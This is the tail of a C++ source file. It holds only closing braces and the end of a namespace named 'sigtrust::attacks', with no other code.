  }
}

}  // namespace sigtrust::attacks
